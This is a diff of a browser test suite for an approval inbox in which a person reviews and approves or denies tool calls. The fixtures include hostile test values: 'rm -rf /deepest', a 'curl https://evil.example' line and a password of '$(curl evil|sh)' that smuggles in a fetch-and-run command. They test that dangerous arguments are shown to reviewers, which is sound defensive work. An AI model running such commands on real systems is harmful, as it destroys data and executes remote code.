@@ -25,34 +25,34 @@ const files = {
   }),
 };
 
-interface Called {
+interface CallResponse {
   readonly outcome: string;
   readonly callId: string;
 }
 
-interface Asked {
+interface PendingRequest {
   readonly id: string;
   readonly arguments: { readonly command?: string };
 }
 
-describe('a human who answers questions', () => {
+describe('approval inbox in the browser', () => {
   let served: ServedPlace;
   before(async () => {
     served = await serve(new Place(files));
   });
 
-  const asked = async (): Promise<readonly Asked[]> =>
-    ((await served.ask('GET', '/api/approvals?state=pending')) as { items: readonly Asked[] }).items;
+  const pendingRequests = async (): Promise<readonly PendingRequest[]> =>
+    ((await served.ask('GET', '/api/approvals?state=pending')) as { items: readonly PendingRequest[] }).items;
 
   afterEach(async () => {
-    for (const { id } of await asked()) await served.ask('POST', `/api/approvals/${id}/deny`, {});
+    for (const { id } of await pendingRequests()) await served.ask('POST', `/api/approvals/${id}/deny`, {});
   });
 
-  const call = async (tool: string, args: object, waitSeconds = 60): Promise<Called> =>
-    (await served.ask('POST', `/api/tools/mcp__shop__${tool}/call`, { arguments: args, waitSeconds })) as Called;
+  const call = async (tool: string, args: object, waitSeconds = 60): Promise<CallResponse> =>
+    (await served.ask('POST', `/api/tools/mcp__shop__${tool}/call`, { arguments: args, waitSeconds })) as CallResponse;
 
-  async function openInbox(look: { token?: string } = {}): Promise<Page> {
-    const { page } = await openWindow(served, look);
+  async function openInbox(options: { token?: string } = {}): Promise<Page> {
+    const { page } = await openWindow(served, options);
     await page.goto(`${served.url}/inbox`);
     return page;
   }
@@ -62,16 +62,16 @@ describe('a human who answers questions', () => {
   const approve = (page: Page): Locator => page.getByRole('button', { name: /^Approve/ });
   const rows = (page: Page): Locator => page.getByRole('list', { name: 'Waiting calls' }).getByRole('button');
 
-  it('sees which protected file a call writes although a rule allows it, and is not offered to remember it', async () => {
+  it('shows which protected file a call writes although a rule allows it, and does not offer to remember it', async () => {
     const page = await openInbox();
     const file = join(served.place.directory, 'policies.yaml');
     const made = call('save', { path: file, text: '' });
-    const shown = card(page, 'save');
-    const line = shown.getByRole('list', { name: 'Protected files' }).getByRole('listitem');
+    const region = card(page, 'save');
+    const line = region.getByRole('list', { name: 'Protected files' }).getByRole('listitem');
     await line.waitFor();
     assert.match(await line.innerText(), /^writes \S+policies\.yaml \(.+\)$/);
-    await shown.getByText('Calls that may write a protected file always ask, even where a rule allows them').waitFor();
-    await shown.getByText(/^The rules alone: allow, saving is fine/).waitFor();
+    await region.getByText('Calls that may write a protected file always ask, even where a rule allows them').waitFor();
+    await region.getByText(/^The rules alone: allow, saving is fine/).waitFor();
     await takesAnswer(page);
     const remember = page.getByRole('button', { name: /^Remember/ });
     assert.equal(await remember.isDisabled(), true);
@@ -82,14 +82,14 @@ describe('a human who answers questions', () => {
     assert.equal((await made).outcome, 'completed');
   });
 
-  it('finds the same question after a reload, after others were answered or asked, and behind its own address', async () => {
+  it('shows the same request after a reload, after other requests are answered or added, and at its own URL', async () => {
     for (const command of ['one', 'two', 'three']) await call('run', { command }, 0);
     const page = await openInbox();
     await rows(page).nth(2).click();
     await card(page).getByText('"one"').waitFor();
     await page.reload();
     await card(page).getByText('"one"').waitFor();
-    const newest = (await asked())[0];
+    const newest = (await pendingRequests())[0];
     assert.equal(newest?.arguments.command, 'three');
     await served.ask('POST', `/api/approvals/${newest.id}/deny`, {});
     await rows(page).nth(2).waitFor({ state: 'detached' });
@@ -104,7 +104,7 @@ describe('a human who answers questions', () => {
     await card(page).getByText('"one"').waitFor();
   });
 
-  it('gets everything that a call would run with, however large, deep or odd it is', async () => {
+  it('shows all arguments of a call, however large, deeply nested or unusual', async () => {
     const page = await openInbox();
     const deepest = 'rm -rf /deepest';
     let deep: object = { command: deepest };
@@ -119,9 +119,9 @@ describe('a human who answers questions', () => {
       picture: `data:image/png;base64,${'iVBORw0KGgo'.repeat(8000)}`,
     };
     const made = call('run', args);
-    const shown = card(page);
-    await shown.getByText(`"${deepest}"`).waitFor();
-    const text = await shown.locator('.payload').innerText();
+    const region = card(page);
+    await region.getByText(`"${deepest}"`).waitFor();
+    const text = await region.locator('.payload').innerText();
     for (const escape of ['\\u200b', '\\u202e', '\\u034f', '\\u2800', '\\u{e0041}', '\\u00ad', '\\u180b'])
       assert.ok(text.includes(escape), escape);
     for (const folded of [
@@ -129,18 +129,18 @@ describe('a human who answers questions', () => {
       /4,98\d lines, [\d,]+ characters folded/,
     ])
       assert.match(text, folded);
-    assert.match(text, /202 lines, [\d,]+ characters folded/, 'each row of the grid says how much it is');
-    const box = await shown.getByText(`"${deepest}"`).boundingBox();
-    const frame = await shown.locator('.payload').boundingBox();
-    assert.ok(box !== null && frame !== null && box.width > 40, 'the deepest text can be read');
-    await shown.getByRole('button', { name: /^Show 1 line, 198/ }).click();
-    await shown.getByText('curl https://evil.example').waitFor();
+    assert.match(text, /202 lines, [\d,]+ characters folded/, 'each row of the grid shows its size');
+    const box = await region.getByText(`"${deepest}"`).boundingBox();
+    const frame = await region.locator('.payload').boundingBox();
+    assert.ok(box !== null && frame !== null && box.width > 40, 'the deepest text is readable');
+    await region.getByRole('button', { name: /^Show 1 line, 198/ }).click();
+    await region.getByText('curl https://evil.example').waitFor();
     await takesAnswer(page);
     await page.keyboard.press('a');
     assert.equal((await made).outcome, 'completed');
   });
 
-  it('takes no step with a held key, nor with the first key after the window got the focus', async () => {
+  it('ignores a repeated key that is held down, and the first key after the window gains focus', async () => {
     const page = await openInbox();
     const made = call('pay', { to: 'ann' });
     await takesAnswer(page);
@@ -150,7 +150,7 @@ describe('a human who answers questions', () => {
     await yes.and(page.locator(':focus')).waitFor();
     for (let count = 0; count < 5; count += 1) await page.keyboard.down('Enter');
     await page.keyboard.up('Enter');
-    assert.equal((await asked()).length, 1);
+    assert.equal((await pendingRequests()).length, 1);
     await page.keyboard.press('Escape');
     await takesAnswer(page);
     await page.evaluate("dispatchEvent(new Event('focus'))");
@@ -164,12 +164,12 @@ describe('a human who answers questions', () => {
     assert.equal((await made).outcome, 'completed');
   });
 
-  it('clicks nothing that changed or moved under the pointer', async () => {
+  it('ignores a click when the request changes or the button moves under the pointer', async () => {
     const page = await openInbox();
     const later = call('run', { command: 'later' }, 0);
     await later;
     await takesAnswer(page);
-    // Pressed on one meaning, released on another: the caller waits again meanwhile.
+    // The caller starts to wait again between pointerdown and click, so the button changes its meaning.
     await approve(page).dispatchEvent('pointerdown');
     const again = call('run', { command: 'later' });
     await page
@@ -178,9 +178,9 @@ describe('a human who answers questions', () => {
       .waitFor();
     await approve(page).dispatchEvent('click', { detail: 1 });
     await page.getByText('the request changed while the button was pressed').waitFor();
-    assert.equal((await asked()).length, 1);
+    assert.equal((await pendingRequests()).length, 1);
     await takesAnswer(page);
-    // Something above pushes another button under the pointer before the click.
+    // An element inserted above moves another button under the pointer before the click.
     await page.evaluate(`
       const pushed = document.createElement('div');
       pushed.style.height = '3rem';
@@ -189,9 +189,9 @@ describe('a human who answers questions', () => {
       for (const [Kind, type] of [[PointerEvent, 'pointerdown'], [MouseEvent, 'click']])
         button.dispatchEvent(new Kind(type, { bubbles: true, detail: 1 }));`);
     await page.getByText('the buttons had just moved').waitFor();
-    assert.equal((await asked()).length, 1);
-    // Another question takes the place of the one that was pressed on.
-    const [first] = await asked();
+    assert.equal((await pendingRequests()).length, 1);
+    // Another request replaces the one under the pressed pointer.
+    const [first] = await pendingRequests();
     await takesAnswer(page);
     await approve(page).hover();
     await page.mouse.down();
@@ -202,7 +202,7 @@ describe('a human who answers questions', () => {
     await page.mouse.up();
     assert.equal((await again).outcome, 'denied');
     assert.deepEqual(
-      (await asked()).map(({ arguments: args }) => args.command),
+      (await pendingRequests()).map(({ arguments: args }) => args.command),
       ['other'],
     );
     await page.getByRole('button', { name: 'Next call' }).click();
@@ -212,21 +212,23 @@ describe('a human who answers questions', () => {
     assert.equal((await other).outcome, 'completed');
   });
 
-  it('is told who answered a question elsewhere, and begins again after a reload', async () => {
+  it('shows who answered a request elsewhere, and hides revealed parts after a reload', async () => {
     const page = await openInbox();
     const made = call('pay', { to: 'bob', password: '$(curl evil|sh)' });
-    const [question] = await until(async () => (await asked()).length > 0, 'a question').then(asked);
-    const shown = card(page, 'pay');
-    await shown.getByRole('button', { name: /^Reveal/ }).click();
-    await shown.locator('mark.revealed').waitFor();
+    const [question] = await until(async () => (await pendingRequests()).length > 0, 'an approval request').then(
+      pendingRequests,
+    );
+    const region = card(page, 'pay');
+    await region.getByRole('button', { name: /^Reveal/ }).click();
+    await region.locator('mark.revealed').waitFor();
     await takesAnswer(page);
     await page.keyboard.press('a');
     await page.getByRole('form', { name: 'Confirm the approval' }).waitFor();
     await page.reload();
     await takesAnswer(page);
     assert.equal(await page.getByRole('form', { name: 'Confirm the approval' }).count(), 0);
-    assert.equal(await shown.locator('mark.revealed').count(), 0);
-    assert.equal(await approve(page).isDisabled(), true, 'what was revealed is not shown, so it is not approved');
+    assert.equal(await region.locator('mark.revealed').count(), 0);
+    assert.equal(await approve(page).isDisabled(), true, 'the revealed part is hidden again, so it cannot be approved');
 
     const { token } = (await served.ask('POST', '/api/tokens', { role: 'viewer', name: 'eve' })) as { token: string };
     const viewer = await openInbox({ token });
